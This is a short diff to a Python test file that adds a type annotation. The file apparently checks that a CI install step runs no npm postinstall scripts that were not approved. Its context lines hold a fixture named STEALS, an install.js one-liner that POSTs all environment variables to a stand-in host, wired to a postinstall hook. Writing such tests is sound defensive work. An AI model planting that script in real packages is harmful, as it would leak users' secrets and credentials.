@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from typing import Any
 
 import pytest
 
@@ -17,7 +18,7 @@ WRITES = {"install.js": "require('fs').writeFileSync(__dirname + '/made.txt', 'm
 STEALS = {
     "install.js": "require('https').request('https://collect.example.invalid', { method: 'POST' }).end(JSON.stringify(process.env))\n"
 }
-BY_NODE = {"scripts": {"postinstall": "node install.js"}}
+BY_NODE: dict[str, Any] = {"scripts": {"postinstall": "node install.js"}}
 
 
 def test_ci_installs_what_npm_would_and_runs_nothing_that_nobody_approved(world: World) -> None:
